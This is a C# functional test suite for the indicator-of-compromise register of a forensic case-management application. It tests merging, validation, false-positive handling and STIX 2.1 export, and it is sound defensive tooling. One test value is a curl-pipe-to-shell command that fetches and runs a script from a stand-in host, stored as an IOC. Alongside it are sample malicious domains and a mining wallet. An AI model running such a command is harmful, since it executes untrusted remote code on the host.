using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using CaseManager.Application.FunctionalTests.Evidence;
using CaseManager.Application.Indicators.Commands.AddManualIndicator;
using CaseManager.Application.Indicators.Commands.UpdateIndicators;
using CaseManager.Application.Indicators.Queries.ExportIndicators;
using CaseManager.Application.Indicators.Queries.GetIndicators;
using CaseManager.Domain.Cases;
using CaseManager.Domain.Evidence;
using CaseManager.Domain.Indicators;

namespace CaseManager.Application.FunctionalTests.Indicators;

/// <summary>The case's IOC register: merged from every evidence item, assessed, added to by hand, exported.</summary>
public abstract partial class IndicatorRegisterTests<TApp>(TApp app) : EvidenceTestBase<TApp>(app)
    where TApp : FunctionalTestApp
{
    [SkippableFact]
    public async Task Register_MergesEvidenceIndicatorsByCanonicalValue_AndAReRunReplacesItsEvidencesContribution()
    {
        var caseId = await NewCaseAsync();
        var capture = await UploadAsync(caseId, "irc.pcap", await File.ReadAllBytesAsync(TestData.Pcap("zeek_irc-basic.pcap")));
        await AnalyseAsync(capture);
        var other = await UploadAsync(caseId, "notes.txt", UniqueBytes());
        await App.InDbAsync(async db =>
        {
            var run = (await db.Evidence.SingleAsync(e => e.Id == new EvidenceId(capture))).AnalysisRun;
            db.EvidenceIndicators.AddRange(
                new EvidenceIndicator(new EvidenceId(capture), run, IndicatorType.Domain, "Stale.Example.COM.", null, IndicatorRelevance.Suspicious),
                new EvidenceIndicator(new EvidenceId(other), 1, IndicatorType.Domain, "stale.example.com", "from the notes", IndicatorRelevance.Malicious),
                new EvidenceIndicator(new EvidenceId(other), 1, IndicatorType.Ip, "130.239.18.119", null, IndicatorRelevance.Suspicious),
                new EvidenceIndicator(new EvidenceId(other), 1, IndicatorType.FilePath, "/usr/lib/x86_64-linux-gnu/libc.so.6", null, IndicatorRelevance.Context));
            return await db.SaveChangesAsync();
        });

        var register = await App.SendAsync(new GetIndicatorsQuery(caseId));
        var stale = register.Entries.Single(e => e.Type == IndicatorType.Domain && e.Value == "stale.example.com");
        stale.Sources.Select(s => s.EvidenceName).ShouldBe(["irc.pcap", "notes.txt"]);
        stale.Relevance.ShouldBe(IndicatorRelevance.Malicious);
        register.Entries.Single(e => e.Value == "130.239.18.119").Sources.Select(s => s.EvidenceName).ShouldBe(["irc.pcap", "notes.txt"], "the capture's own IP indicator and the notes' merge");
        register.Entries.ShouldNotContain(e => e.IsOrdinary);
        register.OrdinaryTotal.ShouldBe(1);
        (await App.SendAsync(new GetIndicatorsQuery(caseId, IncludeOrdinary: true))).Entries.ShouldContain(e => e.Value == "/usr/lib/x86_64-linux-gnu/libc.so.6");

        await AnalyseAsync(capture);

        var after = await App.SendAsync(new GetIndicatorsQuery(caseId));
        after.Entries.Single(e => e.Value == "stale.example.com").Sources.Select(s => s.EvidenceName).ShouldBe(["notes.txt"], "the re-run replaced the capture's contribution");
    }

    [SkippableFact]
    public async Task ManualIndicators_AreValidated_AndDuplicatesRefused_NothingStored()
    {
        var caseId = await NewCaseAsync();
        await App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Ip, " 2001:DB8::1 ", IndicatorStatus.ConfirmedMalicious, TrafficLightProtocol.Amber, "c2, pool", "seen by the client", null));

        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Ip, "2001:db8:0::1", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null))))
            .Errors[nameof(AddManualIndicatorCommand.Value)].ShouldHaveSingleItem().ShouldContain("already in this case's register");
        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Ip, "999.1.2.3", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null))))
            .Errors[nameof(AddManualIndicatorCommand.Value)].ShouldBe(["Not an IPv4 or IPv6 address."]);
        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Wallet, "<b>44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33</b>", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null))))
            .Errors[nameof(AddManualIndicatorCommand.Value)].ShouldHaveSingleItem().ShouldStartWith("Not a cryptocurrency wallet");
        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, (IndicatorType)77, "x", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null))))
            .Errors.Keys.ShouldContain(nameof(AddManualIndicatorCommand.Type));
        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Domain, "evil.example", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, "bad tag!", null, null))))
            .Errors.Keys.ShouldContain(nameof(AddManualIndicatorCommand.Tags));
        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Domain, "evil.example", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, DateTimeOffset.UtcNow.AddDays(2)))))
            .Errors.Keys.ShouldContain(nameof(AddManualIndicatorCommand.SeenAt));

        var register = await App.SendAsync(new GetIndicatorsQuery(caseId));
        var entry = register.Entries.ShouldHaveSingleItem();
        (entry.Key, entry.Manual, entry.Status, entry.Tags.Count).ShouldBe(("Ip:2001:db8::1", true, IndicatorStatus.ConfirmedMalicious, 2));
    }

    [SkippableFact]
    public async Task BulkAssessment_IsAllOrNothing_AndFalsePositivesLeaveTheBlocklistAndStix()
    {
        var caseId = await NewCaseAsync();
        await App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Domain, "pool.supportxmr.com", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null));
        await App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Ip, "8.8.8.8", IndicatorStatus.Suspected, TrafficLightProtocol.Amber, null, null, null));

        (await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new UpdateIndicatorsCommand(caseId, ["Ip:8.8.8.8", "Ip:1.1.1.1"], IndicatorStatus.FalsePositive))))
            .Errors[nameof(UpdateIndicatorsCommand.Keys)].ShouldHaveSingleItem().ShouldContain("Ip:1.1.1.1");
        (await App.SendAsync(new GetIndicatorsQuery(caseId))).Entries.ShouldAllBe(e => e.Status == IndicatorStatus.Suspected);

        (await App.SendAsync(new UpdateIndicatorsCommand(caseId, ["Ip:8.8.8.8"], IndicatorStatus.FalsePositive, AddTags: "resolver", Note: "Google DNS"))).ShouldBe(1);
        await App.SendAsync(new UpdateIndicatorsCommand(caseId, ["Domain:pool.supportxmr.com", "Ip:8.8.8.8"], Tlp: TrafficLightProtocol.Green));

        var entries = (await App.SendAsync(new GetIndicatorsQuery(caseId))).Entries;
        var dns = entries.Single(e => e.Value == "8.8.8.8");
        (dns.Status, dns.Tlp, dns.Note, string.Join(',', dns.Tags)).ShouldBe((IndicatorStatus.FalsePositive, TrafficLightProtocol.Green, "Google DNS", "resolver"));
        (await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Blocklist))).Content.ShouldBe("pool.supportxmr.com\n");
        (await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Blocklist, "ip"))).Content.ShouldBeEmpty();
        (await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Stix))).Content.ShouldNotContain("8.8.8.8");
        var csv = (await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Csv))).Content.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        csv.Length.ShouldBe(3, "CSV holds every entry, dismissed ones too");
        csv.ShouldContain(l => l.StartsWith("\"Ip\",\"8.8.8.8\",\"FalsePositive\"", StringComparison.Ordinal));
    }

    [SkippableFact]
    public async Task SameIndicatorInAnotherCase_IsShownAsAlsoSeenIn()
    {
        var first = await NewCaseAsync();
        var second = await NewCaseAsync();
        await App.SendAsync(new AddManualIndicatorCommand(first, IndicatorType.Domain, "sjb555.3322.org", IndicatorStatus.ConfirmedMalicious, TrafficLightProtocol.Amber, null, null, null));
        var evidence = await UploadAsync(second, "notes.txt", UniqueBytes());
        await App.InDbAsync(async db =>
        {
            db.EvidenceIndicators.Add(new EvidenceIndicator(new EvidenceId(evidence), 1, IndicatorType.Domain, "sjb555.3322.org", null, IndicatorRelevance.Malicious));
            return await db.SaveChangesAsync();
        });
        var firstNumber = (await App.SendAsync(new GetIndicatorsQuery(first))).CaseNumber;
        var secondNumber = (await App.SendAsync(new GetIndicatorsQuery(second))).CaseNumber;

        (await App.SendAsync(new GetIndicatorsQuery(first))).Entries.Single().AlsoSeenIn.Select(c => c.Number).ShouldBe([secondNumber]);
        (await App.SendAsync(new GetIndicatorsQuery(second))).Entries.Single().AlsoSeenIn.Select(c => c.Number).ShouldBe([firstNumber]);
    }

    [SkippableFact]
    public async Task StixExport_IsAValidStix21Bundle_WithPatternsQuotedPerType()
    {
        var caseId = await NewCaseAsync();
        (IndicatorType Type, string Value, string Pattern)[] expected =
        [
            (IndicatorType.Ip, "170.178.191.191", "[ipv4-addr:value = '170.178.191.191']"),
            (IndicatorType.Ip, "2001:db8::5", "[ipv6-addr:value = '2001:db8::5']"),
            (IndicatorType.Domain, "sjb555.3322.org", "[domain-name:value = 'sjb555.3322.org']"),
            (IndicatorType.Url, "http://sjb555.3322.org/it's?a=b\\c", @"[url:value = 'http://sjb555.3322.org/it\'s?a=b\\c']"),
            (IndicatorType.Hash, "D41D8CD98F00B204E9800998ECF8427E", "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']"),
            (IndicatorType.Hash, new string('a', 64), $"[file:hashes.'SHA-256' = '{new string('a', 64)}']"),
            (IndicatorType.FilePath, @"C:\Users\Public\o'brien.exe", @"[file:name = 'o\'brien.exe' AND file:parent_directory_ref.path = 'C:\\Users\\Public']"),
            (IndicatorType.Email, "ops@evil.example", "[email-addr:value = 'ops@evil.example']"),
            (IndicatorType.Command, "curl -fsSL http://x.example/i.sh | sh", "[process:command_line = 'curl -fsSL http://x.example/i.sh | sh']"),
        ];
        foreach (var (type, value, _) in expected)
        {
            await App.SendAsync(new AddManualIndicatorCommand(caseId, type, value, IndicatorStatus.ConfirmedMalicious, TrafficLightProtocol.Amber, "mining", null, null));
        }

        await App.SendAsync(new AddManualIndicatorCommand(caseId, IndicatorType.Wallet, "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", IndicatorStatus.ConfirmedMalicious, TrafficLightProtocol.Amber, null, null, null));

        var export = await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Stix));
        export.ContentType.ShouldStartWith("application/stix+json");
        var again = await App.SendAsync(new ExportIndicatorsQuery(caseId, IndicatorExportFormat.Stix));

        var objects = StixBundleRules.Validate(export.Content);
        objects.Select(o => o.GetProperty("pattern").GetString()).ShouldBe(expected.Select(e => e.Pattern), ignoreOrder: true);
        objects.Select(o => StixBundleRules.PatternValue(o.GetProperty("pattern").GetString()!))
            .ShouldContain(@"http://sjb555.3322.org/it's?a=b\c", "the literal unescapes to the value");
        StixBundleRules.Validate(again.Content).Select(o => o.GetProperty("id").GetString()).ShouldBe(objects.Select(o => o.GetProperty("id").GetString()), ignoreOrder: true, "a re-export keeps the ids");
    }
}

/// <summary>
/// The STIX 2.1 rules (OASIS STIX 2.1 §3 common properties, §4 patterning, §5.7 indicator, §8 bundle) the export must
/// meet, checked as a schema would: required properties, types, identifier and timestamp formats, pattern grammar.
/// </summary>
internal static partial class StixBundleRules
{
    public static IReadOnlyList<JsonElement> Validate(string json)
    {
        using var document = JsonDocument.Parse(json);
        var bundle = document.RootElement.Clone();
        bundle.GetProperty("type").GetString().ShouldBe("bundle");
        Identifier("bundle").IsMatch(bundle.GetProperty("id").GetString()!).ShouldBeTrue("bundle id is bundle--<uuid>");
        bundle.TryGetProperty("spec_version", out _).ShouldBeFalse("a 2.1 bundle has no spec_version");
        var objects = bundle.GetProperty("objects").EnumerateArray().ToList();
        objects.ShouldNotBeEmpty();
        foreach (var o in objects)
        {
            o.GetProperty("type").GetString().ShouldBe("indicator");
            o.GetProperty("spec_version").GetString().ShouldBe("2.1");
            Identifier("indicator").IsMatch(o.GetProperty("id").GetString()!).ShouldBeTrue($"indicator id {o.GetProperty("id")}");
            var created = Timestamp(o, "created");
            var modified = Timestamp(o, "modified");
            modified.ShouldBeGreaterThanOrEqualTo(created, "modified is not before created");
            Timestamp(o, "valid_from");
            o.GetProperty("pattern_type").GetString().ShouldBe("stix");
            PatternGrammar().IsMatch(o.GetProperty("pattern").GetString()!).ShouldBeTrue($"pattern {o.GetProperty("pattern")}");
            if (o.TryGetProperty("indicator_types", out var types))
            {
                types.EnumerateArray().ShouldAllBe(t => t.GetString() == "malicious-activity" || t.GetString() == "anomalous-activity" || t.GetString() == "benign" || t.GetString() == "compromised" || t.GetString() == "unknown" || t.GetString() == "attribution" || t.GetString() == "anonymization");
            }

            foreach (var marking in o.GetProperty("object_marking_refs").EnumerateArray())
            {
                Identifier("marking-definition").IsMatch(marking.GetString()!).ShouldBeTrue();
            }
        }

        objects.Select(o => o.GetProperty("id").GetString()).ShouldBeUnique();
        return objects;
    }

    /// <summary>The value of a single-comparison pattern's string literal, unescaped.</summary>
    public static string PatternValue(string pattern)
    {
        var literal = pattern[(pattern.IndexOf('\'', StringComparison.Ordinal) + 1)..pattern.LastIndexOf('\'')];
        return Regex.Replace(literal, @"\\(.)", "$1");
    }

    private static DateTimeOffset Timestamp(JsonElement o, string name)
    {
        var text = o.GetProperty(name).GetString()!;
        TimestampFormat().IsMatch(text).ShouldBeTrue($"{name} {text} is RFC 3339 UTC with Z");
        return DateTimeOffset.Parse(text, System.Globalization.CultureInfo.InvariantCulture);
    }

    private static Regex Identifier(string type) =>
        new($"^{Regex.Escape(type)}--[0-9a-f]{{8}}-[0-9a-f]{{4}}-[1-8][0-9a-f]{{3}}-[89ab][0-9a-f]{{3}}-[0-9a-f]{{12}}$");

    [GeneratedRegex(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?Z$")]
    private static partial Regex TimestampFormat();

    /// <summary>
    /// One observation expression of comparisons joined by AND: object-type:property-path = 'literal', the literal with
    /// only \' and \\ escapes (§9.2), object types and paths as the grammar allows (hashes.'SHA-256' quoted).
    /// </summary>
    [GeneratedRegex(@"^\[(?:[a-z][a-z0-9-]*:[a-z_][a-z0-9_]*(?:\.(?:[a-z_][a-z0-9_]*|[A-Z0-9]+|'[A-Za-z0-9-]+'))* = '(?:[^'\\]|\\['\\])*')(?: AND [a-z][a-z0-9-]*:[a-z_][a-z0-9_]*(?:\.(?:[a-z_][a-z0-9_]*|[A-Z0-9]+|'[A-Za-z0-9-]+'))* = '(?:[^'\\]|\\['\\])*')*\]$")]
    private static partial Regex PatternGrammar();
}

public sealed class IndicatorRegisterOnSqliteTests(SqliteApp app) : IndicatorRegisterTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class IndicatorRegisterOnPostgresTests(PostgresApp app) : IndicatorRegisterTests<PostgresApp>(app), IClassFixture<PostgresApp>;
